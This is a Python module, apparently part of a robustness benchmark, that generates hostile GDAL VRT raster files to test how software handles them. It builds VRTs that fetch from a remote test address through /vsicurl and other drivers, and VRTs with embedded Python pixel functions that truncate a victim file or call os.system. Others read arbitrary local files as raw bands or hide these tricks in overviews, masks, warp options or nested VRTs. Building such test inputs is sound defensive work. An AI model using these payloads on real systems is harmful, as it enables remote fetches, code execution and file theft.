"""VRTs that fetch, run code, or read what is not theirs."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from html import escape

from benchmarks.robustness.hostile.plan import World, utm_wkt

Files = dict[str, bytes]


@dataclass(frozen=True, slots=True)
class Shape:
    """What a payload pretends to be, so that it is taken for a part of a raster."""

    side: int
    count: int
    pixel: float
    left: float = 500_000.0
    top: float = 4_000_000.0

    @property
    def geotransform(self) -> str:
        """GDAL's six numbers."""
        return f"{self.left}, {self.pixel}, 0, {self.top}, 0, {-self.pixel}"


AS_MASK = '<Metadata><MDI key="INTERNAL_MASK_FLAGS_1">2</MDI></Metadata>'
"""What makes GDAL take a ``.msk`` file for the mask of all bands."""


def vrt(shape: Shape, inner: str, band: str = "", more: str = "", dataset: str = "") -> bytes:
    """A VRT whose bands all contain `inner`."""
    bands = "".join(
        f'<VRTRasterBand dataType="UInt16" band="{number}" {band}>{inner}</VRTRasterBand>'
        for number in range(1, shape.count + 1)
    )
    return (
        f'<VRTDataset rasterXSize="{shape.side}" rasterYSize="{shape.side}" {dataset}>'
        f"<SRS>{escape(utm_wkt())}</SRS><GeoTransform>{shape.geotransform}</GeoTransform>"
        f"{AS_MASK}{bands}{more}</VRTDataset>"
    ).encode()


def source(name: str, relative: bool = False, more: str = "") -> str:
    """A simple source."""
    return (
        f'<SimpleSource><SourceFilename relativeToVRT="{relative:d}">{escape(name)}'
        f"</SourceFilename><SourceBand>1</SourceBand>{more}</SimpleSource>"
    )


def _fetching(world: World, shape: Shape, name: str) -> Files:
    address = world.rng.choice(
        (
            f"/vsicurl/{world.address}/a.tif", f"{world.address}/a.tif", f"WMS:{world.address}/w?",
            f"/vsigzip//vsicurl/{world.address}/a.gz", f"/vsizip/{{/vsicurl/{world.address}/a}}/b",
            f"vrt:///vsicurl/{world.address}/a.tif?bands=1", f"NETCDF:{world.address}/a.nc:v",
            f"/vsicurl?url={world.address}/a.tif", f"/vsicurl_streaming/{world.address}/a.tif",
            (f"<VRTDataset rasterXSize='8' rasterYSize='8'><VRTRasterBand dataType='Byte' band='1'>"
            f"{source(f'/vsicurl/{world.address}/a.tif')}</VRTRasterBand></VRTDataset>"),
            f"GTI:/vsicurl/{world.address}/a.gpkg", f"ZARR:\"/vsicurl/{world.address}/z\"",
            f"STACTA:/vsicurl/{world.address}/a.json", f"WCS:{world.address}/wcs?COVERAGE=x",
        )
    )  # fmt: skip
    return {name: vrt(shape, source(address))}


def _python(world: World, shape: Shape, name: str) -> Files:
    aim = world.root / "victims" / "thesis.doc"
    deed = world.rng.choice((f"open({str(aim)!r}, 'w').close()", "import os; os.system('true')"))
    language = world.rng.choice(("Python", "python", " Python"))
    code = (
        f"<PixelFunctionType>f</PixelFunctionType><PixelFunctionLanguage>{language}"
        "</PixelFunctionLanguage><PixelFunctionCode><![CDATA[\n"
        f"def f(*args, **kwargs):\n    {deed}\n]]></PixelFunctionCode>"
        + source(str(world.root / "victims" / "ground.tif"))
    )
    return {name: vrt(shape, code, 'subClass="VRTDerivedRasterBand"')}


def _raw(world: World, shape: Shape, name: str) -> Files:
    aim = world.victim("secret.raw")
    raw = (
        f'<SourceFilename relativeToVRT="{aim.startswith(".."):d}">{aim}</SourceFilename>'
        f"<ImageOffset>0</ImageOffset><PixelOffset>2</PixelOffset>"
        f"<LineOffset>{2 * shape.side}</LineOffset>"
    )
    return {name: vrt(shape, raw, 'subClass="VRTRawRasterBand"')}


def _around(world: World, shape: Shape, name: str) -> Files:
    """The name is in another place than a source."""
    address = f"/vsicurl/{world.address}/a.tif"
    ground = source(str(world.root / "victims" / "ground.tif"))
    overview = f"<SourceFilename>{address}</SourceFilename><SourceBand>1</SourceBand>"
    band = '<VRTRasterBand dataType="Byte">{}</VRTRasterBand>'
    mdi = f'<MDI key="OVERVIEW_FILE">{address}</MDI>'
    warp = f"<GDALWarpOptions><SourceDataset>{address}</SourceDataset></GDALWarpOptions>"
    array = f'<Array name="a"><Source><SourceFilename>{address}</SourceFilename></Source></Array>'
    pan = f"<PanchroBand><SourceFilename>{address}</SourceFilename></PanchroBand>"
    return world.rng.choice(
        (
            {name: vrt(shape, ground + f"<Overview>{overview}</Overview>")},
            {name: vrt(shape, ground, more=f"<MaskBand>{band.format(source(address))}</MaskBand>")},
            {name: vrt(shape, ground + f'<Metadata domain="OVERVIEWS">{mdi}</Metadata>')},
            {name: vrt(shape, ground, more=f'<Metadata domain="OVERVIEWS">{mdi}</Metadata>')},
            {name: vrt(shape, "", more=warp, dataset='subClass="VRTWarpedDataset"')},
            {
                name: vrt(
                    shape,
                    "",
                    'subClass="VRTPansharpenedRasterBand"',
                    f"<PansharpeningOptions>{pan}</PansharpeningOptions>",
                    'subClass="VRTPansharpenedDataset"',
                )
            },
            {
                name: vrt(
                    shape,
                    ground,
                    more=f"<Input><SourceFilename>{address}</SourceFilename></Input>",
                    dataset='subClass="VRTProcessedDataset"',
                )
            },
            {name: f'<VRTDataset><Group name="/">{array}</Group></VRTDataset>'.encode()},
            {name: vrt(shape, source(address).replace("Simple", "Complex"))},
            {name: vrt(shape, f"<ArraySource>{array}</ArraySource>")},
            {name: vrt(shape, ground).replace(b"<SRS>", f"<SRS>{world.address}/crs".encode())},
        )
    )


def _nested(world: World, shape: Shape, name: str) -> Files:
    """The hostile part is a file of another name, or the same text twice removed."""
    inner = world.rng.choice((_fetching, _python, _raw))(world, shape, "inner")["inner"]
    if world.rng.random() < 0.5:
        return {name: vrt(shape, source(inner.decode()))}
    hidden = world.rng.choice(("inner.tif", "inner.dat", "inner"))
    return {name: vrt(shape, source(hidden, True)), hidden: inner}


VRTS: dict[str, Callable[[World, Shape, str], Files]] = {
    "VRT that fetches": _fetching,
    "VRT with Python": _python,
    "VRT of raw bytes": _raw,
    "VRT that names elsewhere": _around,
    "VRT in VRT": _nested,
}
